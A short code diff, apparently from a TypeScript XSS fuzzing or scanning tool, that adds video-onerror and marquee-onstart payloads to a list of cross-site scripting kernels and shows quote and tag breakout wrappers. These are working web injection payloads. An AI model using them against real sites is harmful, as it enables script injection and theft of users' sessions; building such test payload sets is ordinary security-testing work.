@@ -18,7 +18,7 @@ const kernels = [
   `<object data="javascript:${act}">`, `<embed src="javascript:${act}">`,
   `<form action="javascript:${act}"><button>x</button></form>`,
   `{{constructor.constructor('${act}')()}}`,
-  `\${${act}}`, `"><script>${act}</script>`, `'-eval('${act}')-'`,
+  `<video src=x onerror=${act}></video>`, `<marquee onstart=${act}>`, `\${${act}}`, `"><script>${act}</script>`, `'-eval('${act}')-'`,
 ];
 const wraps: ((kernel: string) => string)[] = [
   (k) => k, (k) => `"${k}`, (k) => `'${k}`, (k) => `>${k}`, (k) => `</textarea>${k}`,
